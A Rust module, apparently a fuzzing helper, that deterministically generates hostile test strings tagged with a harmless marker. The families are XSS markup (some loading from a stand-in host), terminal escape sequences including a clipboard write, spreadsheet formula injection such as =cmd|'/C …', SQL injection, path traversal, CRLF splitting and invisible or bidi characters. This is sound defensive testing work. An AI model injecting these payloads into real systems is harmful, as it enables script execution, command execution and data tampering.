//! Hostile text, made from families with a seed: the same number gives the same text.

/// What stands in every text that would do something, so that it can be found where it came out. Too long
/// to stand in a nonce by chance.
pub const MARK: &str = "zq7xkv3w";

/// Numbers that look like chance and repeat: splitmix64.
pub struct PayloadRng(u64);

impl PayloadRng {
    /// Dice that fall the same way for the same seed.
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// The next number.
    pub fn roll(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number below `limit`.
    pub fn below(&mut self, limit: usize) -> usize {
        let limit = u64::try_from(limit.max(1)).expect("a size");
        usize::try_from(self.roll() % limit).expect("it was one")
    }

    /// One time in so many.
    pub fn one_in(&mut self, many: usize) -> bool {
        self.below(many) == 0
    }

    /// One of a list.
    pub fn pick<'a, T>(&mut self, list: &'a [T]) -> &'a T {
        &list[self.below(list.len())]
    }
}

/// Markup that would be live in a page.
const MARKUP: &[&str] = &[
    "<script>zq7xkv3w()</script>",
    "</script><script src=//zq7xkv3w.example></script>",
    "</title><script>zq7xkv3w()</script>",
    "</textarea><img src=zq7xkv3w onerror=zq7xkv3w()>",
    "</style><style>@import '//zq7xkv3w.example'</style>",
    "\"><svg onload=zq7xkv3w()>",
    "'><iframe srcdoc='<script>zq7xkv3w()</script>'>",
    "\" autofocus onfocus=zq7xkv3w() x=\"",
    "' onmouseover='zq7xkv3w()",
    "`><object data=zq7xkv3w>",
    "<img src=x onerror=zq7xkv3w()>",
    "<a href=javascript:zq7xkv3w()>x</a>",
    "<form action=//zq7xkv3w.example><button>x",
    "<base href=//zq7xkv3w.example/>",
    "<meta http-equiv=refresh content=\"0;url=//zq7xkv3w.example\">",
    "<link rel=stylesheet href=//zq7xkv3w.example>",
    "<math><mtext></table><style><!--</style><img title=\"--><img src=x onerror=zq7xkv3w()>\">",
    "<!--zq7xkv3w--><!--[if IE]><script>zq7xkv3w()</script>",
    "<![CDATA[<zq7xkv3w>]]>",
    "<?zq7xkv3w ?><zq7xkv3w onclick=zq7xkv3w()>",
    "<zq7xkv3w/onclick=zq7xkv3w()//",
    "<template shadowrootmode=open><script>zq7xkv3w()</script>",
    "&lt;script&gt;zq7xkv3w()&lt;/script&gt;",
    "&#60;script&#62;zq7xkv3w()&#60;/script&#62;",
    "javascript:zq7xkv3w()//",
    "data:text/html,<script>zq7xkv3w()</script>",
    "//zq7xkv3w.example/%2f..",
    "\\\\zq7xkv3w.example",
    "{{zq7xkv3w}}${zq7xkv3w}#{zq7xkv3w}<%= zq7xkv3w %>",
    "\u{ff1c}script\u{ff1e}zq7xkv3w()\u{ff1c}/script\u{ff1e}",
];

/// Characters that hide, reorder or move.
const TREACHEROUS: &[char] = &[
    '\u{0}',
    '\u{7}',
    '\u{8}',
    '\t',
    '\n',
    '\u{b}',
    '\u{c}',
    '\r',
    '\u{1b}',
    '\u{7f}',
    '\u{80}',
    '\u{85}',
    '\u{90}',
    '\u{9b}',
    '\u{9d}',
    '\u{61c}',
    '\u{200b}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2066}',
    '\u{2069}',
    '\u{feff}',
    '\u{fff9}',
    '\u{e0041}',
    '\u{e007f}',
];

/// What moves a terminal.
const ESCAPES: &[&str] = &[
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]52;c;enE3eA==\u{7}",
    "\u{1b}]0;zq7xkv3w\u{7}",
    "\u{1b}]8;;http://zq7xkv3w.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m",
    "\u{1b}P$qzq7xkv3w\u{1b}\\",
    "done\r0  executed",
    "x\u{8}\u{8}\u{8}y",
    "\u{1b}[8mhidden\u{1b}[0m",
];

/// What a spreadsheet would compute.
const FORMULAS: &[&str] = &[
    "=cmd|'/C zq7xkv3w'!A0",
    "=HYPERLINK(\"http\\://zq7xkv3w\",\"y\")",
    "+zq7xkv3w+1",
    "-2+3+zq7xkv3w",
    "@SUM(zq7xkv3w)",
    "\t=zq7xkv3w",
    "\r=zq7xkv3w",
    " =zq7xkv3w",
    "\u{ff1d}zq7xkv3w",
    "\"=zq7xkv3w\"",
    ";=zq7xkv3w",
    "%0A=zq7xkv3w",
];

/// What ends a line, a cell, a link or a block.
const STRUCTURE: &[&str] = &[
    "a|b|zq7xkv3w|",
    "[zq7xkv3w](http://zq7xkv3w.example)",
    "![zq7xkv3w](//zq7xkv3w.example/i.png)",
    "```\nzq7xkv3w\n```",
    "\n# zq7xkv3w\n",
    "a\r\n\r\nHTTP/1.1 200 zq7xkv3w",
    "a\",\"zq7xkv3w\":\"b",
    "'; DROP TABLE record; --zq7xkv3w",
    "%00%0a%0dzq7xkv3w",
    "../../../../zq7xkv3w",
    "http://zq7xkv3w.example www.zq7xkv3w.example",
];

/// One text of many. All families come in turn, and each is varied.
pub fn payload(number: usize, seed: u64) -> String {
    let mut dice = PayloadRng::new(seed ^ u64::try_from(number).expect("a number"));
    let mut text = match number % 6 {
        0 => dice.pick(MARKUP).to_string(),
        1 => {
            let mut text = MARK.to_owned();
            for _ in 0..=dice.below(4) {
                let at = dice.below(text.chars().count() + 1);
                let (head, tail): (String, String) =
                    (text.chars().take(at).collect(), text.chars().skip(at).collect());
                text = format!("{head}{}{tail}", dice.pick(TREACHEROUS));
            }
            text
        }
        2 => format!("{}{MARK}", dice.pick(ESCAPES)),
        3 => dice.pick(FORMULAS).to_string(),
        4 => dice.pick(STRUCTURE).to_string(),
        _ => format!("{}{}", dice.pick(MARKUP), dice.pick(TREACHEROUS)),
    };
    text = text.replace(MARK, &format!("{MARK}{number}"));
    if !text.contains(MARK) {
        text.push_str(&format!("{MARK}{number}"));
    }
    match dice.below(12) {
        0 => text = text.to_uppercase(),
        1 => text = format!("{}{text}", dice.pick(TREACHEROUS)),
        2 => text = format!("n1{text}"),
        3 => text = format!("{text}{}", dice.pick(MARKUP)),
        4 => text = text.repeat(1 + dice.below(40)),
        _ => {}
    }
    // A megabyte of it, now and then.
    if number % 97 == 96 {
        text = text.repeat(1 + 1_000_000 / text.len().max(1));
    }
    text
}

/// Every character as a browser sends it in a path or a query.
pub fn encoded(text: &str) -> String {
    let bytes: Vec<String> = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    bytes.concat()
}

#[test]
fn payloads_repeat_and_hold_every_family() {
    let all: Vec<String> = (0..500).map(|number| payload(number, 7)).collect();
    assert_eq!(all, (0..500).map(|number| payload(number, 7)).collect::<Vec<_>>());
    for part in ["<script", "\u{202e}", "\u{1b}]52", "=cmd|", "](http", "onerror="] {
        assert!(all.iter().any(|text| text.contains(part)), "{part:?}");
    }
    assert!(all.iter().filter(|text| text.len() >= 1_000_000).count() >= 4);
    let distinct: std::collections::BTreeSet<_> = all.iter().collect();
    assert_eq!(distinct.len(), all.len(), "no two are the same");
}
